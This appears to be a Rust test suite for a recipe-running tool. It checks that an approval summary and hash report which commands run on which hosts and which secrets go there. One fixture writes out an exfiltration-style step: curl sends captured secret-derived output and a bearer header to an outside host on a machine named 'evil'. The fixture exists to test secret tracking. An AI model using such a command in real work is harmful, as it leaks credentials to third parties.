//! What is the same to somebody who approves a run, and what is not.

use std::sync::Arc;

use expect_test::expect;
use recipe::effects::Place;
use recipe::plan::Plan;
use recipe::{Analyser, Effects, PlanOptions, plan};
use sha2::{Digest, Sha256};

const TARGET: &str = "gpu-1";

/// A recipe with a bit of everything that a run can do.
const RECIPE: &str = r#"[recipe]
name = "train"
description = "What it is for"

[variables]
model = "bert"
unused = "x"

[[step]]
id = "install"
ssh_command = { command = "pip install ${model}", workdir = "work" }

[[step]]
id = "check"
name = "Is it there?"
depends_on = ["install"]
ssh_command = { command = "cat version", capture_output = "version", host_id = "local" }

[[step]]
id = "train"
depends_on = ["check"]
when = "${version} != '0'"
tmux_new = { session_name = "train", command = "train ${version} ${env.RUN}", env = { HF = "${secret:hf/token}", A = "1" } }
"#;

fn planned(text: &str, options: &PlanOptions) -> Plan {
    let head = if text.contains("[recipe]") {
        ""
    } else {
        "[recipe]\nname = \"x\"\n"
    };
    let text = Arc::from(format!("{head}{text}"));
    let analysis = Analyser::default().analyse(text, Some("x.recipe.toml"));
    plan(&analysis, options).expect("a sound recipe")
}

fn effects(text: &str) -> Effects {
    effects_in(text, TARGET, "/home/me/project")
}

fn effects_in(text: &str, target: &str, folder: &str) -> Effects {
    let target = Some(target);
    Effects::of(
        &planned(text, &PlanOptions::default()),
        Place { target, folder },
    )
}

/// The recipe with one text replaced.
#[track_caller]
fn with(old: &str, new: &str) -> String {
    assert!(RECIPE.contains(old), "{old}");
    RECIPE.replacen(old, new, 1)
}

#[test]
fn the_summary_says_what_runs_where_and_which_secrets_go_there() {
    let effects = effects(RECIPE);
    assert_eq!(effects.count(), "2 hosts, 1 secret");
    let gpu = &effects.hosts[0];
    assert_eq!(
        (gpu.host.as_str(), gpu.secrets.as_slice()),
        (TARGET, ["hf/token".to_owned()].as_slice())
    );
    assert_eq!(gpu.environment, ["RUN"]);
    assert_eq!(gpu.commands[0].text, "pip install bert");
    assert_eq!(gpu.commands[0].folder.as_deref(), Some("work"));
    let train = &gpu.commands[1];
    assert_eq!(train.text, "train ${version} ${env.RUN}");
    assert_eq!(train.env, ["A=1", "HF=${secret:hf/token}"]);
    assert_eq!(train.session.as_deref(), Some("train"));
    assert_eq!(train.when.as_deref(), Some("${version} != \"0\""));
    let here = &effects.hosts[1];
    assert_eq!(here.host, "local");
    assert_eq!(here.commands[0].folder.as_deref(), Some("/home/me/project"));
    assert!(here.secrets.is_empty());
}

/// The form is a promise to those who keep hashes: a change of this one needs a new version.
#[test]
fn the_hash_is_what_it_was() {
    expect!["6cf76dc73ae199edca588630d974095827a043d4458b1d5d13f05bd757e0ea01"]
        .assert_eq(&effects(RECIPE).hash);
}

#[test]
fn what_is_no_effect_does_not_count() {
    let moved = {
        let (head, steps) = RECIPE.split_once("[[step]]").expect("steps");
        let steps: Vec<&str> = steps.split("[[step]]").collect();
        format!(
            "{head}[[step]]{}[[step]]{}[[step]]{}",
            steps[2], steps[0], steps[1]
        )
    };
    for text in [
        with("[recipe]", "# a comment\n[recipe] # and another"),
        with("name = \"train\"", "name = \"something else\""),
        with("\nname = \"Is it there?\"", ""),
        with("\"What it is for\"", "\"What it was for\""),
        with("unused = \"x\"", "unused = \"y\""),
        with("[variables]", "[target]\ntype = \"custom\"\n[variables]"),
        with("\n\n[[step]]", "\n\n\n\n  [[step]]"),
        with(
            "{ HF = \"${secret:hf/token}\", A = \"1\" }",
            "{ A = '1', HF = '${secret:hf/token}' }",
        ),
        with(
            "command = \"pip install ${model}\", workdir = \"work\"",
            "workdir = 'work', command = '''pip install bert'''",
        ),
        RECIPE.replace("\"install\"", "\"set-up\""),
        with(
            "[[step]]\nid = \"check\"",
            "[[step]]\nretry = { max_attempts = 3 }\ntimeout_secs = 60\nid = \"check\"",
        ),
        moved,
    ] {
        let same = effects(&text);
        assert_eq!(same.hash, effects(RECIPE).hash, "{text}");
        assert!(same.changes_since(&effects(RECIPE)).is_empty(), "{text}");
    }
}

#[test]
fn what_is_an_effect_counts_and_is_told() {
    for (text, told) in [
        (
            with("pip install", "pip install -q"),
            "+ runs on gpu-1: pip install -q bert",
        ),
        (
            with("\"bert\"", "\"gpt\""),
            "+ runs on gpu-1: pip install gpt",
        ),
        (
            with("secret:hf/token", "secret:wandb/api_key"),
            "+ sends wandb/api_key to gpu-1",
        ),
        (
            with(", host_id = \"local\"", ""),
            "+ runs on gpu-1: cat version",
        ),
        (
            with("host_id = \"local\"", "host_id = \"a@b\""),
            "+ runs on a@b: cat version (a new host)",
        ),
        (
            with("\"work\"", "\"/\""),
            "+ runs on gpu-1: pip install bert (in /)",
        ),
        (
            with("session_name = \"train\"", "session_name = \"other\""),
            "(tmux session other)",
        ),
        (
            with("A = \"1\"", "B = \"1\""),
            "(with B=1, HF=${secret:hf/token})",
        ),
        (
            with("env.RUN", "env.PATH"),
            "+ sends $PATH of this machine to gpu-1",
        ),
        (with("!= '0'", "== '0'"), "(when ${version} == \"0\")"),
        (
            with("depends_on = [\"install\"]", "depends_on = []"),
            "~ the order",
        ),
        (
            with(
                "[[step]]\nid = \"check\"",
                "[[step]]\ncontinue_on_failure = true\nid = \"check\"",
            ),
            "~ the order",
        ),
        (
            with("${env.RUN}\", env", "$${env.RUN}\", env"),
            "- sends $RUN",
        ),
    ] {
        let other = effects(&text);
        assert_ne!(other.hash, effects(RECIPE).hash, "{text}");
        let changes = other.changes_since(&effects(RECIPE)).join("\n");
        assert!(changes.contains(told), "{told}: {changes}");
    }
}

#[test]
fn the_target_and_the_folder_count_where_they_are_used() {
    let here = effects(RECIPE).hash;
    assert_ne!(effects_in(RECIPE, "gpu-2", "/home/me/project").hash, here);
    assert_ne!(effects_in(RECIPE, TARGET, "/tmp/cloned").hash, here);
    // A host that is named is the same as a target of that name, and a remote host has no folder of ours.
    let remote = with(", host_id = \"local\"", ", host_id = \"gpu-1\"");
    let named = effects_in(&remote, TARGET, "/a").hash;
    assert_eq!(effects_in(&remote, TARGET, "/b").hash, named);
    assert_eq!(
        effects_in(&with(", host_id = \"local\"", ""), TARGET, "/c").hash,
        named
    );
    let fixed = with(
        "host_id = \"local\"",
        "host_id = \"local\", workdir = \"/srv\"",
    );
    assert_eq!(
        effects_in(&fixed, TARGET, "/a").hash,
        effects_in(&fixed, TARGET, "/b").hash
    );
}

#[test]
fn a_part_has_a_hash_of_its_own_and_knows_the_whole() {
    let place = Place {
        target: Some(TARGET),
        folder: "/home/me/project",
    };
    let only = PlanOptions {
        only: vec!["install".to_owned()],
        ..PlanOptions::default()
    };
    let part = planned(RECIPE, &only);
    assert_ne!(Effects::of(&part, place).hash, effects(RECIPE).hash);
    let whole = part.whole.as_ref().expect("all of it can be run");
    assert_eq!(Effects::of(whole, place).hash, effects(RECIPE).hash);
    let given = PlanOptions {
        vars: [("model".to_owned(), "bert".to_owned())].into(),
        ..only.clone()
    };
    assert_eq!(
        Effects::of(&planned(RECIPE, &given), place).hash,
        Effects::of(&part, place).hash
    );
    let given = PlanOptions {
        vars: [("model".to_owned(), "gpt".to_owned())].into(),
        ..only
    };
    let other = planned(RECIPE, &given);
    assert_ne!(
        Effects::of(&other, place).hash,
        Effects::of(&part, place).hash
    );
    assert_ne!(
        Effects::of(other.whole.as_ref().expect("it can"), place).hash,
        effects(RECIPE).hash
    );
    // What this version cannot run is in no approval.
    let beyond = format!(
        "{RECIPE}[[step]]\nid = \"get\"\ngit_clone = {{ repo_url = \"https://a.b/c\", destination = \"c\" }}\n"
    );
    let only = PlanOptions {
        only: vec!["install".to_owned()],
        ..PlanOptions::default()
    };
    assert!(planned(&beyond, &only).whole.is_none());
}

#[test]
fn a_first_value_counts_for_those_who_read_it() {
    let text = |first: &str, read: &str| {
        format!(
            "[variables]\nv = \"{first}\"\n[[step]]\nid = \"a\"\nset_var = {{ name = \"v\", value = \"b\" }}\nwhen = \"no\"\n[[step]]\nid = \"b\"\ndepends_on = [\"a\"]\nssh_command = {{ command = \"echo {read}\" }}\n"
        )
    };
    assert_ne!(
        effects(&text("1", "${v}")).hash,
        effects(&text("2", "${v}")).hash
    );
    assert_eq!(effects(&text("1", "")).hash, effects(&text("2", "")).hash);
}

#[test]
fn a_secret_is_followed_through_variables_and_outputs() {
    let text = r#"[variables]
header = "Bearer ${secret:a/b}"
[[step]]
id = "one"
ssh_command = { command = "echo $T", env = { T = "${secret:c/d}" }, capture_output = "v", host_id = "local" }
[[step]]
id = "two"
depends_on = ["one"]
ssh_command = { command = "echo \"${v}\"", capture_output = "seen", host_id = "local" }
[[step]]
id = "three"
depends_on = ["two"]
ssh_command = { command = "curl -d \"${seen}\" example.org; curl -H \"${header}\" x", host_id = "evil" }
[[step]]
id = "four"
depends_on = ["two"]
ssh_command = { command = "echo \"${step.two.output}\"", host_id = "other" }
"#;
    let effects = effects(text);
    let sent: Vec<_> = effects
        .hosts
        .iter()
        .map(|it| format!("{} {}", it.host, it.secrets.join(" ")))
        .collect();
    assert_eq!(sent, ["evil a/b c/d", "local c/d", "other c/d"]);
}

/// Text that looks like a reference is not the reference.
#[test]
fn a_literal_is_no_reference() {
    let text = |text: &str| {
        format!(
            "[variables]\nd = '$'\n[[step]]\nid = \"a\"\nssh_command = {{ command = 'echo x', env = {{ A = '{text}' }} }}\n"
        )
    };
    let hashes: Vec<_> = [
        "${secret:a/b}",
        "$${secret:a/b}",
        "${d}${secret:a/b}",
        "${target}",
        "gpu-2",
    ]
    .map(|it| effects(&text(it)).hash)
    .into();
    let different: std::collections::BTreeSet<_> = hashes.iter().collect();
    assert_eq!(different.len(), hashes.len());
    assert_eq!(
        effects(&text("${target}")).hash,
        effects(&text("gpu-1")).hash
    );
}

/// The example of `docs/trust.md`.
#[test]
fn the_page_about_trust_is_right() {
    const PAGE: &str = include_str!("../../docs/trust.md");
    let (_, example) = PAGE.split_once("whose only step is `").expect("an example");
    let (step, rest) = example.split_once("` the\n").expect("a step");
    let blocks: Vec<&str> = rest.split("```\n").skip(1).step_by(2).take(2).collect();
    let hex = |text: &str| {
        let hash = Sha256::digest(text.as_bytes());
        hash.iter()
            .map(|byte| format!("{byte:02x}"))
            .collect::<String>()
    };
    let form = format!("doppio effects 1\nstep 64:{}\n", hex(blocks[0]));
    assert_eq!(blocks[1], form);
    let hash = effects(&format!("[[step]]\nid = \"a\"\n{step}\n")).hash;
    assert_eq!(hash, hex(&form));
    assert!(rest.contains(&format!("so the hash is `{hash}`")), "{hash}");
}
